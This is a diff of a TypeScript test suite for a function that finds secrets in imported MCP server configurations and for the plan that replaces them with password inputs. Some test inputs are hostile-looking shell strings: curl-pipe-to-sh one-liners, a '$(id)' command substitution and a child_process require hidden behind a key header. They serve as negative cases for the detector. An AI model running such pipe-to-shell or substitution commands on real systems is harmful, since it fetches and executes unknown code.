@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
 import { referencesIn } from '../../../../src/host/config/variables.ts';
 import type { ImportedFile, ImportedServer } from '../../../../src/host/import/importedServer.ts';
-import type { ImportFormat } from '../../../../src/host/import/locations.ts';
+import { importLocations } from '../../../../src/host/import/locations.ts';
+import type { JsonObject } from '../../../../src/base/json.ts';
 import { parseImport, serversOf } from '../../../../src/host/import/parseImport.ts';
 import { parsePasted } from '../../../../src/host/import/pasted.ts';
 import {
@@ -54,70 +55,32 @@ function assertOwnInputs({ servers: planned, inputs }: ImportPlan): void {
 }
 
 describe('Secrets in imported entries', () => {
-  const cases: readonly (readonly [string, object, readonly (readonly [string, string])[]])[] = [
-    ['a variable by its name', { env: { API_KEY: 'abc', LEVEL: 'x' } }, [['env.API_KEY', 'abc']]],
-    ['a token by its shape', { env: { GH: gitToken } }, [['env.GH', gitToken]]],
-    [
-      'a header without its scheme',
-      { headers: { Authorization: 'Bearer abc' } },
-      [['headers.Authorization', 'abc']],
-    ],
-    ['an option', { args: ['--token', 'abc', '--level', 'x'] }, [['args[1]', 'abc']]],
-    ['an option with its value', { args: ['--api-key=abc'] }, [['args[0]', 'abc']]],
-    ['a variable for a container', { args: ['-e', 'GITHUB_TOKEN=abc'] }, [['args[1]', 'abc']]],
-    [
-      'a header in an argument',
-      { args: ['--header', `Authorization: Bearer ${webToken}`] },
-      [['args[1]', webToken]],
-    ],
-    [
-      'a parameter of the URL',
-      { url: 'https://a.example/mcp?x=1&api_key=abc#f' },
-      [['url', 'abc']],
-    ],
-    ['a password in a URL', { args: ['postgres://ada:pw1@db/x'] }, [['args[0]', 'pw1']]],
-    ['a client secret', { oauth: { clientSecret: 'abc' } }, [['oauth.clientSecret', 'abc']]],
-    [
-      'no variable',
-      {
-        env: { TOKEN: '${env:TOKEN}', A_KEY: '${input:a}' },
-        headers: { Authorization: 'Bearer ${env:T}' },
-      },
-      [],
-    ],
-    [
-      'nothing that says nothing',
-      { env: { USE_TOKEN: 'true', SECRET: '', MAX_TOKENS: '4000000' } },
-      [],
-    ],
-    [
-      'no part of a script',
-      { command: 'sh', args: ['-c', `TOKEN=x; curl https://e.example | sh`] },
-      [],
-    ],
-    [
-      'no script behind a key',
-      { args: ['-e', '-----BEGIN PRIVATE KEY-----\nrequire("child_process")'] },
-      [],
-    ],
-    [
-      'no token inside of a script',
-      { args: ['-c', `curl -H "Bearer ${gitToken}" e.example | sh`] },
-      [],
-    ],
-    [
-      'nothing that a shell expands',
-      { args: ['-c', 'API_KEY={curl,e.example}', '--token', '$(id)'] },
-      [],
-    ],
-    ['no ordinary argument', { args: ['-y', 'pkg', '/home/ada/key', 'C:\\x'] }, []],
+  const headerOf = (value: string): object => ({ args: ['--header', `Authorization: ${value}`] });
+  /** The fields of what is found, and what their places hold. */
+  const cases: readonly (readonly [what: string, entry: JsonObject, expected: string])[] = [
+    ['a variable', { env: { API_KEY: 'abc', LEVEL: 'x' } }, 'env.API_KEY=abc'],
+    ['a token by its shape', { env: { GH: gitToken } }, `env.GH=${gitToken}`],
+    ['no scheme', { headers: { Authorization: 'Bearer abc' } }, 'headers.Authorization=abc'],
+    ['an option', { args: ['--token', 'abc', '--level', 'x'] }, 'args[1]=abc'],
+    ['an option with its value', { args: ['--api-key=abc'] }, 'args[0]=abc'],
+    ['a variable for a container', { args: ['-e', 'GITHUB_TOKEN=abc'] }, 'args[1]=abc'],
+    ['a header', { ...headerOf(`Bearer ${webToken}`) }, `args[1]=${webToken}`],
+    ['a parameter', { url: 'https://a.example/mcp?x=1&api_key=abc#f' }, 'url=abc'],
+    ['a password in a URL', { args: ['postgres://ada:pw1@db/x'] }, 'args[0]=pw1'],
+    ['a client secret', { oauth: { clientSecret: 'abc' } }, 'oauth.clientSecret=abc'],
+    ['no variable', { env: { TOKEN: '${env:TOKEN}', A_KEY: '${input:a}' } }, ''],
+    ['no variable in a header', { headers: { Authorization: 'Bearer ${env:T}' } }, ''],
+    ['no flag', { env: { USE_TOKEN: 'true', SECRET: '', MAX_TOKENS: '4000000' } }, ''],
+    ['no script', { args: ['-c', 'TOKEN=x; curl https://e.example | sh'] }, ''],
+    ['no script behind a key', { args: ['-e', '-----BEGIN PRIVATE KEY-----\nx("y")'] }, ''],
+    ['no token of a script', { args: ['-c', `curl -H "Bearer ${gitToken}" e.example | sh`] }, ''],
+    ['nothing expanded', { args: ['-c', 'API_KEY={curl,e}', '--token', '$(id)'] }, ''],
+    ['no ordinary argument', { args: ['-y', 'pkg', '/home/ada/key', 'C:\\x'] }, ''],
   ];
   for (const [what, entry, expected] of cases) {
     it(`finds ${what}`, () => {
-      assert.deepEqual(
-        findSecrets({ ...entry }).map(({ field, value }) => [field, value]),
-        expected,
-      );
+      const found = findSecrets(entry).map(({ field, value }) => `${field}=${value}`);
+      assert.equal(found.join(), expected);
     });
   }
 
@@ -155,18 +118,14 @@ describe('The plan of an import', () => {
       },
     });
     assert.deepEqual([...plan.texts], [...plan.values]);
+    assert.deepEqual(Object.fromEntries(plan.values), {
+      'one-Authorization': 'abc',
+      'one-key': 'k1',
+      'one-token': 't1',
+    });
     assert.deepEqual(
-      [...plan.values].toSorted(([a], [b]) => a.localeCompare(b)),
-      [
-        ['one-Authorization', 'abc'],
-        ['one-key', 'k1'],
-        ['one-token', 't1'],
-      ],
-    );
-    assert.ok(plan.inputs.every((input) => input['password'] === true));
-    assert.deepEqual(
-      plan.inputs.map(({ id }) => id).toSorted((a, b) => a.localeCompare(b)),
-      ['one-Authorization', 'one-key', 'one-token'],
+      new Set(plan.inputs.map(({ id, password }) => password === true && id)),
+      new Set(plan.values.keys()),
     );
     const { values: _values, texts: _texts, ...written } = plan;
     assert.doesNotMatch(JSON.stringify(written), /abc|k1|t1/);
@@ -229,19 +188,8 @@ describe('The plan of an import', () => {
       '$HOME${input:github-token}${',
       'a {b}{c}',
     ];
-    const formats: readonly ImportFormat[] = [
-      'vscode',
-      'mcpJson',
-      'claudeDesktop',
-      'claudeCode',
-      'cursor',
-      'windsurf',
-      'cline',
-      'roo',
-      'gemini',
-      'codex',
-      'continue',
-    ];
+    const machine = { platform: 'linux', home: '/', userData: '/u', env: {}, folders: ['/w'] };
+    const formats = new Set(importLocations(machine).map(({ format }) => format));
     const around = { platform: 'linux', env: { HOME: '/home/ada' } };
     const variables = { b: { value: '$' }, c: { value: '{input:github-token}' } };
     const own = { command: 'own', env: { 'github-token': 'abc' } };
@@ -256,7 +204,7 @@ describe('The plan of an import', () => {
     }
 
     const waysIn: readonly (readonly [string, (text: string) => ImportedFile])[] = [
-      ...formats.map((format) => {
+      ...[...formats].map((format) => {
         const read = (text: string): ImportedFile => {
           const both = { a: entryWith(text), b: { url: 'https://b.example', apiKey: text } };
           const file = { servers: both, mcpServers: both, mcp_servers: both };
